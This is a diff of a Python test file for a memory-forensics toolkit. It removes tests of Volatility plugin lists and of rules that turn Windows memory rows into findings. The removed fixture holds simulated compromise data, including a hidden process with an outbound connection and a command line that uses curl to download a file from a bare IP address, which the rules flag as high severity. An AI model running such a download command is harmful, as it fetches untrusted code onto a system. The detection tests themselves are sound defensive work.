@@ -2,15 +2,10 @@
 
 from __future__ import annotations
 
-import json
 from typing import Any
 
-import pytest
-
 from forensic_toolkit.readers.processes import PSAUX, PSLIST, SPOOFING
-from forensic_toolkit.rules import memory_rules, windows_memory_rules
-from forensic_toolkit.runners import volatility
-from tests.toolkit.examined import NO_TOOLS, TOOLS, run
+from forensic_toolkit.rules import memory_rules
 
 START = "2026-01-02T03:04:05+00:00"
 
@@ -150,74 +145,3 @@ def test_a_system_call_table_read_wrong_is_not_a_hundred_findings() -> None:
     good = [{"Index": index, "Handler Symbol": f"sys_{index}"} for index in range(10)]
     assert len(memory_rules.findings({name: [*good, {"Index": 99, "Handler Symbol": None}]})) == 1
     assert memory_rules.findings({name: [{"Index": index, "Handler Symbol": None} for index in range(10)]}) == []
-
-
-@pytest.mark.parametrize(("platform", "profile"), [("linux", "quick"), ("linux", "full"), ("windows", "full")])
-def test_plugins_have_limits_and_occur_once(platform: str, profile: str) -> None:
-    plugins = [plugin for plugins in volatility.plugin_lists(platform, profile=profile) for plugin in plugins]
-    assert len({name for name, _ in plugins}) == len(plugins)
-    assert all(0 < seconds <= (180 if profile == "quick" else 1800) for _, seconds in plugins)
-    assert {plugin for quick in volatility.plugin_lists(platform) for plugin in quick} <= set(plugins)
-
-
-@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
-def test_the_pinned_version_has_every_plugin() -> None:
-    program = """
-import json, warnings
-warnings.filterwarnings("ignore")
-from volatility3 import framework, plugins
-framework.import_files(plugins, True)
-print(json.dumps(sorted(framework.list_plugins())))
-"""
-    known = set(json.loads(run(program)))
-    for platform in ("linux", "windows"):
-        wanted = {name for plugins in volatility.plugin_lists(platform, profile="full") for name, _ in plugins}
-        assert wanted <= known, sorted(wanted - known)
-
-
-def windows_rows() -> dict[str, list[dict[str, Any]]]:
-    """Rows as the pinned plugins name their columns."""
-    at = "2026-11-21T02:00:00+00:00"
-    process = {"PID": 700, "PPID": 4, "ImageFileName": "svchost.exe", "CreateTime": at, "ExitTime": None}
-    hidden = {**process, "PID": 3344, "ImageFileName": "update.exe"}
-    return {
-        "windows.pslist.PsList": [process],
-        "windows.psscan.PsScan": [process, hidden, {**hidden, "PID": 9, "ExitTime": at}],
-        "windows.netscan.NetScan": [
-            {
-                "ForeignAddr": "203.0.113.66",
-                "ForeignPort": 4443,
-                "State": "ESTABLISHED",
-                "PID": 3344,
-                "Owner": "update.exe",
-                "Created": at,
-            },
-            {
-                "ForeignAddr": "10.0.0.5",
-                "ForeignPort": 443,
-                "State": "ESTABLISHED",
-                "PID": 700,
-                "Owner": "svchost.exe",
-                "Created": at,
-            },
-        ],
-        "windows.cmdline.CmdLine": [{"PID": 700, "Process": "svchost.exe", "Args": "curl http://203.0.113.66/a -o a"}],
-        "windows.malware.malfind.Malfind": [
-            {"PID": 700, "Process": "svchost.exe", "Protection": "PAGE_EXECUTE_READWRITE"}
-        ],
-    }
-
-
-def test_rows_of_windows_plugins_become_findings() -> None:
-    rows = windows_rows()
-    found = [finding for _name, rule in windows_memory_rules.rules(rows) for finding in rule()]
-    assert sorted((item.title, item.severity) for item in found) == [
-        ("Connection to 203.0.113.66:4443 of update.exe", "low"),
-        ("Download from a bare address: svchost.exe (700)", "high"),
-        ("Memory that was made executable and written: svchost.exe (700)", "medium"),
-        ("Process that the process list hides: update.exe (3344)", "high"),
-    ]
-    assert [event.what for event in windows_memory_rules.events(rows)] == [
-        "Process 700 started: svchost.exe (parent 4)"
-    ]
-    assert windows_memory_rules.events({}) == []
